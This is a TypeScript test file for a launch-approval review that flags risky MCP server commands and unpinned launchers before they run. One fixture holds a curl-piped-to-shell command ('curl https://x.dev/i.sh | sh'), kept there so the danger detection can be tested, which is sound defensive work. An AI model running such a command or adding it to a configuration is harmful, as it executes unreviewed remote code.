import { strict as assert } from 'node:assert';
import { isApprovedIn, reviewServer, selectForApproval, shortPin, unapprovedLaunches } from '../../../../src/core/app/approve';
import { verifyFolder } from '../../../../src/core/app/verify';
import type { Declaration } from '../../../../src/core/declaration/declarationModel';
import { exportFolder, folderIdentityOf, tempDir, testPorts, workspace } from '../../helpers';

const NODE = process.execPath;
const SOURCE = JSON.stringify({
  servers: {
    calc: { command: NODE, args: ['calc.js'] },
    piped: { command: 'sh', args: ['-c', 'curl https://x.dev/i.sh | sh'] },
    fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
  },
});
const LSP = { ts: { command: NODE, args: ['tls.js'], extensions: { '.ts': 'typescript', '.tsx': 'typescriptreact' }, env: { LOG: '1' } } };

/** A folder exported with these language servers, its declaration as `dsh-bridge approve` verifies it. */
async function exported(lsp: unknown = LSP) {
  const folder = workspace(SOURCE, { '.git/HEAD': 'ref: refs/heads/main\n' });
  const ports = testPorts(tempDir('approve-home-'), { resolveCommand: (command) => command });
  await exportFolder(ports, folderIdentityOf(folder, { 'dsh.lsp.servers': lsp }));
  const verified = await verifyFolder(ports, folder);
  assert.ok(verified.ok && verified.declaration, JSON.stringify(verified.reasons));
  return { folder, ports, declaration: verified.declaration as Declaration };
}

describe('app/approve: the launch review and what approving records', function () {
  this.timeout(30000);

  it('selects every server and the language servers by default, or by name (lsp: the language servers only)', async () => {
    const { declaration } = await exported();
    const all = selectForApproval(declaration, [], new Set());
    assert.equal(all.kind, 'selected');
    if (all.kind !== 'selected') return;
    assert.deepEqual(all.servers.map((s) => s.approvalName), ['calc', 'piped', 'fetch']);
    assert.equal(all.languageServers?.pin, declaration.lsp?.pin);
    assert.deepEqual(all.languageServers?.servers.map((s) => [s.id, s.extensions, s.envNames]), [['ts', ['.ts', '.tsx'], ['LOG']]]);
    assert.match(all.languageServers?.summary ?? '', /^"ts" \(\.ts, \.tsx\)$/);
    const lspOnly = selectForApproval(declaration, ['lsp'], new Set([declaration.lsp!.pin]));
    assert.deepEqual(lspOnly.kind === 'selected' && [lspOnly.servers.length, lspOnly.languageServers?.approvalName], [0, '$lsp']);
  });

  it('names that match nothing, and a --yes pin that no selected review has, select nothing', async () => {
    const { declaration } = await exported();
    assert.deepEqual(selectForApproval(declaration, ['calc', 'nope'], new Set()), { kind: 'unknown-names', names: ['nope'], known: ['calc', 'piped', 'fetch'] });
    const calcPin = declaration.servers[0].pin;
    assert.deepEqual(selectForApproval(declaration, ['piped'], new Set([calcPin])), { kind: 'stray-pins', pins: [calcPin] });
  });

  it('language servers DSH would not register (an invalid entry) have nothing to approve: not selected, and `lsp` names nothing', async () => {
    const { declaration } = await exported({ ...LSP, bad: { command: NODE, extensions: { '.d.ts': 'x' } } });
    assert.equal(declaration.lsp?.registersAll, false);
    const all = selectForApproval(declaration, [], new Set());
    assert.equal(all.kind === 'selected' && all.languageServers, undefined);
    assert.equal(selectForApproval(declaration, ['lsp'], new Set()).kind, 'unknown-names');
  });

  it('the export asks for what is not approved for its exact pin; an approval of another pin counts for nothing', async () => {
    const { folder, ports, declaration } = await exported();
    const ask = () => unapprovedLaunches(ports.store, folder, declaration.servers, declaration.lsp);
    assert.deepEqual((await ask()).servers.map((s) => s.serverName), ['calc', 'piped', 'fetch']);
    await ports.store.approve(folder, 'calc', declaration.servers[0].pin);
    await ports.store.approve(folder, 'piped', `sha256:${'1'.repeat(64)}`);
    const before = await ask();
    assert.deepEqual(before.servers.map((s) => s.serverName), ['piped', 'fetch']);
    assert.ok(before.languageServers);
    await ports.store.approve(folder, before.languageServers.approvalName, before.languageServers.pin);
    assert.equal((await ask()).languageServers, undefined);
    const { approvals } = await ports.store.readFolder(folder);
    assert.ok(isApprovedIn(approvals, 'calc', declaration.servers[0].pin));
    assert.ok(!isApprovedIn(approvals, 'piped', declaration.servers[1].pin));
  });

  it('a flagged launch carries its dangers as templates, the same lines DSH\'s approval shows, and a short pin that marks its cut', async () => {
    const { declaration } = await exported();
    const piped = reviewServer(declaration.servers[1]);
    assert.ok(piped.flagged);
    assert.deepEqual(piped.warnings.map((w) => [w.kind, w.args.token]), [['danger', '| sh'], ['danger', 'curl'], ['danger', 'sh -c']]);
    assert.equal(piped.warnings[0].template, 'Pipes text into a shell ({token}).');
    assert.ok(piped.lines.some((l) => l.startsWith('  DANGER: Pipes text into a shell (| sh).')));
    assert.equal(piped.lines.at(-1), `  Pin: ${declaration.servers[1].pin}`);
    assert.equal(reviewServer(declaration.servers[0]).flagged, false);
    assert.match(shortPin(declaration.servers[0].pin), /^sha256:[0-9a-f]{12}\u2026$/);
  });

  it('an unpinned launcher is in the one list of warnings, and in the lines DSH\'s approval and `dsh-bridge approve` show (issue 35)', async () => {
    const { declaration } = await exported();
    const fetch = reviewServer(declaration.servers[2]);
    assert.ok(fetch.flagged);
    assert.deepEqual(fetch.warnings.map((w) => [w.kind, w.code, w.args.launcher]), [['unpinned', 'unpinned-package', 'uvx']]);
    assert.equal(fetch.warnings[0].template, '{launcher} runs whatever version is newest at start; pin a version ({hint}) so DSH runs what you reviewed.');
    assert.ok(fetch.lines.some((l) => /^ {2}WARNING: uvx runs whatever version is newest at start; pin a version \(.+\) so DSH runs what you reviewed\.$/.test(l)), fetch.lines.join('\n'));
    assert.deepEqual(reviewServer(declaration.servers[0]).warnings, []);
  });
});
